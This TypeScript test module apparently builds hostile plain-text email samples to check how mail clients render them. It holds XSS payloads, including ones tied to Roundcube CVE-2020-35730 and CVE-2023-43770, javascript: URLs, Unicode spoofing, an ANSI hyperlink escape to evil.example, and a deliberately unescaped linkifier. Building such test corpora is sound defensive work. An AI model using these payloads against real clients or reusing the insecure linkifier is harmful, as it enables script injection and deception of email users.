/** Plain text: what is made of addresses, quotes and signs in it. `naive` is what a client would make that makes HTML of it. */
import { clicked, html, textMessage } from "./trick.ts";
import type { Bait, Family, Trick } from "./trick.ts";

/** A client that puts addresses into links by replacing text, and escapes nothing of them. */
const linkified = (text: string): string => text.replace(/(https?:\/\/\S+)/g, `<a href="$1">$1</a>`);

const text = (
  does: Trick["does"],
  name: string,
  body: (bait: Bait) => string,
  more: readonly string[] = [],
): Trick => ({
  ...html(does, name, (bait) => linkified(body(bait))),
  message: (bait) => textMessage(bait, body(bait), more),
});

export const texts: Family = {
  name: "plain text",
  tricks: [
    text("runs", "HTML as text", ({ run }) => `Hello <img src=x onerror=${run}> <script>${run}</script>`),
    // Roundcube CVE-2020-35730: the linkifier's own marks
    text(
      "runs",
      "a link with a quote (CVE-2020-35730)",
      ({ run }) => `http://a.example/"onpointerrawupdate=0/><img/src="x"/onerror=${run}>`,
    ),
    text(
      "nothing",
      "marks of a linkifier",
      ({ run }) =>
        `##str_replacement_0## [[0]] \0LINK0\0 http://a.example/##str_replacement_1## {{constructor.constructor("${run}")()}} \${${run}}`,
    ),
    // Roundcube CVE-2023-43770: links with brackets
    text(
      "runs",
      "a link in brackets (CVE-2023-43770)",
      ({ run }) => `[<img src=x onerror=${run}>] http://a.example/<img/src=x/onerror=${run}>`,
    ),
    text(
      "nothing",
      "script addresses in text",
      ({ run }) =>
        `javascript:${run} data:text/html,<script>${run}</script> vbscript:x http://javascript:${run} https://a.example/javascript:${run}`,
    ),
    text(
      "nothing",
      "controls and directions in an address",
      () =>
        `https://bank.example/\u202Egnp.exe https://a\u200Bb.example/ https://a.example/\u2066x\u2069 http://\u0430pple.example/`,
    ),
    text(
      "nothing",
      "quotes of a thousand levels",
      ({ run }) => `${">".repeat(1000)} <img src=x onerror=${run}>\n> > > > <b>x`,
    ),
    text(
      "nothing",
      "flowed text that joins",
      ({ run }) => `<scr \nipt>${run}</scr \nipt>\n<img src=x \nonerror=${run}>`,
      ["X-Format: flowed"],
    ),
    text(
      "nothing",
      "ANSI escapes and controls",
      () => `\u001B]8;;http://evil.example\u0007x\u001B]8;;\u0007 \u0000\u0001\u0008\u007F\u0085\u2028\u2029`,
    ),
    text("nothing", "text that climbs", () => `H\u0336${"\u0353\u030D".repeat(2000)}ello`),
    text("nothing", "a link in text", ({ url }) => `See ${url("text-link")}`),
    {
      ...html("runs", "text/enriched (Roundcube 1.7.4)", ({ run }) => `<b><img src=x onerror=${run}></b>`),
      message: (bait) =>
        textMessage(
          bait,
          `<bold><<img src=x onerror=${bait.run}></bold><param>"><img src=x onerror=${bait.run}></param>`,
        ).replace("text/plain", "text/enriched"),
    },
    clicked("runs", "a link made of a link", ({ run }) => `<a id=go href="javascript:${run}">https://a.example/</a>`),
  ],
};
